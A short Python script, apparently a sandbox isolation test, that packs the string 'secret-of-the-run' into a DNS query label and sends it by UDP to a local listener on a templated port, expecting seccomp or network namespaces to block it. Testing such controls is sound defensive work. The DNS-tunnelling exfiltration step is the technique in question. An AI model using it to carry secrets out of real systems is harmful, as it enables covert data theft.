"""Carry data out in a question to a name server.

falls without: seccomp, netns
"""

import socket

data = b"secret-of-the-run"
question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + bytes([len(data)]) + data + b"\x07example\x00\x00\x01\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    if link.sendto(question, ("127.0.0.1", int("@UDP@"))) == len(question):
        print("GOT a question out")
